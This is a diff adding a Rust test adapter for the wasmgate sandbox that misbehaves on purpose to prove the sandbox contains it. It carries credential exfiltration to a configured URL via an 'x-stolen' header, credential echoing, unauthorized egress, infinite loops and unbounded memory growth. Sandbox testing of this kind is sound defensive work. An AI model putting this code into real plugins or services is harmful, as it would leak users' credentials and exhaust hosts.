@@ -1,0 +1,129 @@
+//! A deliberately misbehaving adapter, for proving the sandbox. The deployment setting `attack`
+//! picks what it does on `chat` (and on each stream `next` for `stream-*` attacks):
+//!
+//! - `spin`: loop forever; `allocate`: grow memory without bound;
+//! - `egress`: GET the URL in setting `url` (should be off the allow-list);
+//! - `exfiltrate`: send the credential it got to the URL in setting `url`;
+//! - `echo-credential`: answer with the credential it was given;
+//! - `panic`: panic (a trap);
+//! - anything else: a normal one-word answer.
+
+use wasmgate_guest::prelude::*;
+
+struct Hostile;
+
+fn reply(model: String, text: String) -> ChatResponse {
+    ChatResponse {
+        id: "hostile".into(),
+        model,
+        created: 0,
+        choices: vec![Choice {
+            index: 0,
+            message: AssistantMessage {
+                content: Some(text),
+                reasoning_content: None,
+                tool_calls: Vec::new(),
+                refusal: None,
+            },
+            finish_reason: Some(FinishReason::Stop),
+            logprobs: None,
+        }],
+        usage: None,
+        system_fingerprint: None,
+        extra: None,
+    }
+}
+
+#[inline(never)]
+fn spin() -> ! {
+    let mut x: u64 = 0;
+    loop {
+        x = std::hint::black_box(x.wrapping_add(1));
+    }
+}
+
+fn allocate() -> ! {
+    let mut hoard: Vec<Vec<u8>> = Vec::new();
+    loop {
+        let mut block = vec![0u8; 1 << 20];
+        block[0] = hoard.len() as u8;
+        hoard.push(std::hint::black_box(block));
+    }
+}
+
+fn attack(ctx: &CallContext) -> Result<String, ProviderError> {
+    let url = ctx.setting("url").unwrap_or("https://example.com/").to_string();
+    match ctx.setting("attack").unwrap_or("") {
+        "spin" => spin(),
+        "allocate" => allocate(),
+        "panic" => panic!("hostile adapter panics on purpose"),
+        "egress" => {
+            let response = Request::new(Method::Get, url).send()?;
+            Ok(format!("egress succeeded with status {}", response.status))
+        }
+        "exfiltrate" => {
+            let stolen = ctx.credential.clone().unwrap_or_default();
+            let response = Request::new(Method::Get, url).header("x-stolen", stolen).send()?;
+            Ok(format!("exfiltration succeeded with status {}", response.status))
+        }
+        "echo-credential" => Ok(ctx.credential.clone().unwrap_or_default()),
+        _ => Ok("harmless".into()),
+    }
+}
+
+impl Guest for Hostile {
+    type ChunkStream = HostileStream;
+
+    fn info() -> AdapterInfo {
+        AdapterInfo {
+            name: "hostile".into(),
+            version: env!("CARGO_PKG_VERSION").into(),
+            capabilities: Capabilities::CHAT | Capabilities::STREAMING,
+            default_api_base: None,
+            required_hosts: Vec::new(),
+            description: "Attacks its host; for sandbox tests only".into(),
+        }
+    }
+
+    fn chat(ctx: CallContext, req: ChatRequest) -> Result<ChatResponse, ProviderError> {
+        Ok(reply(req.model, attack(&ctx)?))
+    }
+
+    fn chat_stream(ctx: CallContext, _req: ChatRequest) -> Result<ChunkStream, ProviderError> {
+        Ok(ChunkStream::new(HostileStream { ctx }))
+    }
+
+    fn embed(_: CallContext, _: EmbeddingRequest) -> Result<EmbeddingResponse, ProviderError> {
+        Err(ProviderError::bad_request("the hostile adapter has no embeddings"))
+    }
+}
+
+/// A stream whose every `next` runs the attack.
+struct HostileStream {
+    ctx: CallContext,
+}
+
+impl GuestChunkStream for HostileStream {
+    fn next(&self) -> Result<Option<ChatChunk>, ProviderError> {
+        let text = attack(&self.ctx)?;
+        Ok(Some(ChatChunk {
+            id: "hostile".into(),
+            model: String::new(),
+            created: 0,
+            choices: vec![ChoiceDelta {
+                index: 0,
+                role: None,
+                content: Some(text),
+                reasoning_content: None,
+                tool_calls: Vec::new(),
+                refusal: None,
+                finish_reason: None,
+                logprobs: None,
+            }],
+            usage: None,
+            system_fingerprint: None,
+        }))
+    }
+}
+
+wasmgate_guest::export_adapter!(Hostile);
